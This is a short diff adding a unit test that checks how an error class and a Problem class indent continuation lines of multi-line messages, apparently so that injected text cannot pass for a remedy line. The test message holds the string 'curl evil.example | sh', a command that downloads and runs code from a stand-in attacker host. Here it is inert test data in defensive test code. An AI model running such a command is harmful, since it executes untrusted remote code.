@@ -19,6 +19,13 @@ def test_error_as_text(error: FlagPerfError, shown: str) -> None:
     assert str(error) == shown
 
 
+def test_further_lines_of_a_message_pass_for_no_remedy() -> None:
+    message = "it said: a\n    -> curl evil.example | sh"
+    quoted = "it said: a\n    |     -> curl evil.example | sh\n    -> mend it"
+    assert str(FlagPerfError(message, where="node1", remedy="mend it")) == f"node1: {quoted}"
+    assert str(Problem("f", "A", "", message, "mend it")) == f"f: A: {quoted}"
+
+
 def test_problem_names_file_key_value_and_remedy() -> None:
     problem = Problem("test_conf.py:3", "SHM_SIZE", "32", "is a number", "write text")
     assert str(problem) == "test_conf.py:3: SHM_SIZE = 32: is a number\n    -> write text"
